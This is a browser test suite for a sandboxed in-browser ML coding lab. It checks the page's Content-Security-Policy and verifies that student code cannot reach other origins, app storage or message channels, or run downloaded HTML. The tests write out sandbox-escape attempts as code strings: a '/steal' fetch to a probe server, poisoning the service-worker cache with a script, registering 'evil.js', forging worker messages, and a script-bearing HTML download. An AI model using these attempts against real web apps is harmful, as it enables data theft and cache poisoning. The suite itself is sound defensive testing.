/**
 * Student code cannot reach the app's origin or the network (issue 17, fuzz
 * findings sandbox/*, forge/*, csp/meta-tag): code typed in the editor tries
 * each attack, the run says clearly why it failed, and nothing changed:
 * the precached index.html is untouched, the origin's databases are the
 * same, a server on another port heard nothing, a download does not open
 * as a page of the app.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freshPage } from './support/chromium';
import { chooseBackend, openLessonEditor, replaceCode, runStatus, runToEnd, setTestScale, waitForEditor } from './support/live-code';
import { TEST_DIST } from './support/build';
import { waitForServiceWorkerControl } from './support/offline';
import { startProbeServer, type ProbeServer } from './support/probe-server';
import { closeIfOpened } from './support/teardown';
import { withBrowser } from './support/with-browser';

const lab = withBrowser({ webgpu: true });

let probe: ProbeServer;

beforeAll(async () => {
  probe = await startProbeServer();
});

afterAll(async () => {
  await closeIfOpened(probe);
});

/** CSP violations the page saw (the event fires for the page and, through it, its blob: worker). */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
}
const violations = (page: Page): Promise<string[]> => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);

async function open(serviceWorkers: 'allow' | 'block' = 'block'): Promise<{ page: Page; close: () => Promise<void>; problems: { consoleErrors: string[]; pageErrors: string[] } }> {
  const { page, context, problems } = await freshPage(lab.browser, { serviceWorkers });
  await setTestScale(page);
  await recordViolations(page);
  await openLessonEditor(page, lab.server.url);
  await chooseBackend(page, 'cpu');
  return { page, problems, close: () => context.close() };
}

const printed = (page: Page): Promise<string[]> => page.locator('.lml-print').allTextContents();

describe('the page’s Content-Security-Policy (csp/meta-tag)', () => {
  it('is in the built index.html, and Monaco, KaTeX, mermaid and a run work under it with no violation', async () => {
    const html = readFileSync(join(TEST_DIST, 'index.html'), 'utf8');
    // One hash per inline script: the theme snippet and the link-page preloads (scripts/vite/link-preload.ts).
    const inlineScripts = html.match(/<script>/g)?.length ?? 0;
    expect(inlineScripts).toBe(2);
    expect(html).toMatch(
      new RegExp(`<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+'){${inlineScripts}};[^"]*connect-src 'self';`),
    );
    const { page, context, problems } = await freshPage(lab.browser);
    await setTestScale(page);
    await recordViolations(page);
    // A lesson with math and a diagram, and a live example beside it.
    await page.goto(`${lab.server.url}#/lessons/attention`);
    // Diagrams are drawn as they come into view and the editor opens when clicked: as a reader does.
    await page.locator('figure.mermaid-diagram').first().scrollIntoViewIfNeeded();
    await page.locator('figure.mermaid-diagram[data-state="drawn"] svg').first().waitFor({ timeout: 60_000 });
    expect(await page.locator('.lesson-body .katex').count()).toBeGreaterThan(0);
    await waitForEditor(page);
    await chooseBackend(page, 'cpu');
    expect(await runToEnd(page)).toBe('done');
    // The theme snippet ran (its hash is allowed): the theme is set before the app.
    expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('light');
    expect(await violations(page)).toEqual([]);
    expect(problems.consoleErrors.filter((m) => /Content Security Policy/i.test(m))).toEqual([]);
    await context.close();
  });
});

describe('student code cannot reach other origins', () => {
  it('fetch, import() and WebSocket to another origin fail with a clear message and the other server hears nothing', async () => {
    const { page, close } = await open();
    probe.heard.length = 0;
    await replaceCode(
      page,
      [
        `try { await fetch('${probe.origin}/steal?fetch'); lab.print('fetch reached it'); } catch (e) { lab.print('fetch:', String(e)); }`,
        `try { await import('${probe.origin}/mod.js'); lab.print('import reached it'); } catch (e) { lab.print('import:', String(e)); }`,
        `try { new WebSocket('ws://${probe.origin.slice(7)}/ws'); lab.print('socket made'); } catch (e) { lab.print('socket:', String(e)); }`,
        `try { new XMLHttpRequest(); lab.print('xhr made'); } catch (e) { lab.print('xhr:', String(e)); }`,
        `lab.print('own data:', (await lab.fetchText('data/corpus.txt')).length > 1000);`,
      ].join('\n'),
    );
    expect(await runToEnd(page)).toBe('done');
    const lines = await printed(page);
    expect(lines[0]).toBe(`fetch: TypeError: fetch: ${probe.origin}/steal?fetch is outside this site. Code in the lab can load only the files this site ships, e.g. lab.fetchJSON("data/credit.json").`);
    expect(lines[1]).toMatch(/^import: TypeError: Failed to fetch dynamically imported module/);
    expect(lines[2]).toBe('socket: ReferenceError: WebSocket is not defined');
    expect(lines[3]).toBe('xhr: ReferenceError: XMLHttpRequest is not defined');
    expect(lines[4]).toBe('own data: true');
    // Uncaught, the same attempt ends the run with the reason.
    await replaceCode(page, `new WebSocket('ws://${probe.origin.slice(7)}/ws');`);
    expect(await runToEnd(page)).toBe('error');
    expect(await page.locator('.lml-error-message').textContent()).toMatch(/^ReferenceError: WebSocket is not defined: code in the lab runs in a sandbox/);
    // The other server would have answered the import with a module (CORS allowed): it heard
    // nothing, because the worker's inherited policy (script-src 'self') refused the request.
    await new Promise((r) => setTimeout(r, 300));
    expect(probe.heard).toEqual([]);
    await close();
  });
});

describe('student code cannot reach the app’s storage (sandbox/sw-cache-poisoning, sandbox/origin-storage)', () => {
  it('Cache Storage, IndexedDB, the service worker and the file system are out of reach; the precached index.html is untouched', async () => {
    const { page, close } = await open('allow');
    await waitForServiceWorkerControl(page);
    await waitForEditor(page);
    const cachedIndex = (): Promise<string | null> =>
      page.evaluate(async () => {
        const keys = await caches.keys();
        for (const key of keys) {
          const cache = await caches.open(key);
          for (const request of await cache.keys()) {
            if (new URL(request.url).pathname.endsWith('/index.html')) return (await cache.match(request))?.text() ?? null;
          }
        }
        return null;
      });
    const indexBefore = await cachedIndex();
    expect(indexBefore).toContain('<div id="root">');
    const databasesBefore = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());

    await replaceCode(
      page,
      [
        // One attempt a line (a line ending in "{" would get a closing brace from the editor).
        `const attempts = [];`,
        `attempts.push(['caches', async () => { const c = await caches.open('workbox-precache-v2'); await c.put('index.html', new Response('<script>pwned()</script>')); }]);`,
        `attempts.push(['indexedDB', async () => { indexedDB.open('lml-evil'); }]);`,
        `attempts.push(['serviceWorker', async () => { await navigator.serviceWorker.register('evil.js'); }]);`,
        `attempts.push(['storage', async () => { await navigator.storage.getDirectory(); }]);`,
        `attempts.push(['worker', async () => { new Worker('data:text/javascript,1'); }]);`,
        `attempts.push(['channel', async () => { new BroadcastChannel('lml'); }]);`,
        `for (const [name, attempt] of attempts) { try { await attempt(); lab.print(name, 'got through'); } catch (e) { lab.print(name, '→', String(e)); } }`,
      ].join('\n'),
    );
    expect(await runToEnd(page)).toBe('done');
    expect(await printed(page)).toEqual([
      'caches → ReferenceError: caches is not defined',
      'indexedDB → SecurityError: indexedDB: "lml-evil" is not available. Code in the lab can keep models only, with model.save(\'indexeddb://name\') and tf.loadLayersModel(\'indexeddb://name\').',
      "serviceWorker → TypeError: Cannot read properties of undefined (reading 'register')",
      "storage → TypeError: Cannot read properties of undefined (reading 'getDirectory')",
      'worker → ReferenceError: Worker is not defined',
      'channel → ReferenceError: BroadcastChannel is not defined',
    ]);
    expect(await cachedIndex()).toBe(indexBefore);
    expect(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort())).toEqual(databasesBefore);
    await close();
  });

  it('a model saved with indexeddb:// still loads back (the deployment lesson), in a database of its own', async () => {
    const { page, close } = await open();
    await replaceCode(
      page,
      [
        `const model = tf.sequential({ layers: [tf.layers.dense({ units: 1, inputShape: [2] })] });`,
        `await model.save('indexeddb://lml-test-model');`,
        `const back = await tf.loadLayersModel('indexeddb://lml-test-model');`,
        `lab.print('same weights:', (await back.getWeights()[0].data()).join() === (await model.getWeights()[0].data()).join());`,
      ].join('\n'),
    );
    expect(await runToEnd(page)).toBe('done');
    expect(await printed(page)).toEqual(['same weights: true']);
    expect(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name))).toEqual(['lml-lab-models']);
    await close();
  });
});

describe('messages student code posts (forge/*, crash/forged-*)', () => {
  it('cannot post on any channel the page reads: forged done, plot, table and print change nothing, the page stays up', async () => {
    const { page, close, problems } = await open();
    await replaceCode(
      page,
      [
        `const id = 1;`,
        `const forged = [`,
        `  { type: 'done', runId: id, durationMs: 1, memory: { numTensors: 0, numBytes: 0, numBytesInGPU: null } },`,
        `  { type: 'plot', runId: id, plot: 'p', series: [{ name: 'x' }] },`,
        `  { type: 'print', runId: id, level: 'log', value: { kind: 'table', columns: ['a'], rows: [[{ evil: 1 }]] } },`,
        `  { type: 'print', runId: id, level: 'log', value: { kind: 'text', text: { toString: 1 } } },`,
        `];`,
        `const routes = { self: (m) => self.postMessage(m), proto: (m) => Object.getPrototypeOf(self).postMessage.call(self, m), batch: (m) => postMessage([m]) };`,
        `for (const [name, post] of Object.entries(routes)) for (const m of forged) { try { post(m); lab.print(name, 'posted'); } catch (e) { lab.print(name, String(e)); break; } }`,
        `lab.print('still running');`,
        `while (true) await lab.sleep(50);`,
      ].join('\n'),
    );
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await page.locator('.lml-print', { hasText: 'still running' }).waitFor({ timeout: 60_000 });
    const refused = 'TypeError: postMessage is not available to code in the lab: show results with lab.print, lab.chart, lab.plot or lab.table.';
    // The worker's own postMessage is replaced on the global itself (where WebIDL puts a global's
    // members): its prototype has none left to call.
    expect(await printed(page)).toEqual([`self ${refused}`, "proto TypeError: Cannot read properties of undefined (reading 'call')", `batch ${refused}`, 'still running']);
    await new Promise((r) => setTimeout(r, 500));
    // Still running, Stop still there, nothing drawn from the forgeries, the app still mounted.
    expect(await runStatus(page)).toBe('running');
    expect(await page.locator('figure[data-chart="p"]').count()).toBe(0);
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    await page.waitForFunction(() => document.querySelector('.lml-output')?.getAttribute('data-run-status') === 'stopped');
    expect(await page.locator('h1').count()).toBeGreaterThan(0);
    expect(problems.pageErrors).toEqual([]);
    await close();
  });

  it('self.close() ends the run with a message instead of leaving it "running", and the next run works (forge/self-close)', async () => {
    const { page, close } = await open();
    await replaceCode(page, `lab.print('before');\nself.close();\nwhile (true) {}`);
    expect(await runToEnd(page, 30_000)).toBe('error');
    expect(await page.locator('.lml-error-message').textContent()).toBe(
      'TypeError: close() is not available to code in the lab: a run ends when its code returns; press Stop to end it early.',
    );
    await replaceCode(page, `lab.print('after', 6 * 7);`);
    expect(await runToEnd(page)).toBe('done');
    expect(await printed(page)).toEqual(['after 42']);
    await close();
  });
});

describe('downloads are data, never pages of the app (sandbox/download-blob-same-origin)', () => {
  it('an HTML download is served as bytes to save: opening it runs nothing', async () => {
    const { page, close } = await open();
    await replaceCode(page, `lab.download('report.html', '<script>localStorage.setItem("pwned", "yes")</script><p>report</p>', 'text/html');`);
    expect(await runToEnd(page)).toBe('done');
    const link = page.getByRole('link', { name: /Download report\.html/ });
    expect(await link.getAttribute('download')).toBe('report.html');
    const href = (await link.getAttribute('href')) ?? '';
    expect(href).toMatch(/^blob:/);
    // Opened in a tab of its own, as a person might: served as application/octet-stream, the
    // browser saves it and no page loads (as text/html it would have run its script).
    const tab = await page.context().newPage();
    const downloaded = tab.waitForEvent('download', { timeout: 10_000 });
    await tab.goto(href).catch(() => undefined);
    expect((await downloaded).suggestedFilename()).toMatch(/\.html$|^[0-9a-f-]+$/);
    await tab.close();
    expect(await page.evaluate(() => localStorage.getItem('pwned'))).toBeNull();
    await close();
  });
});
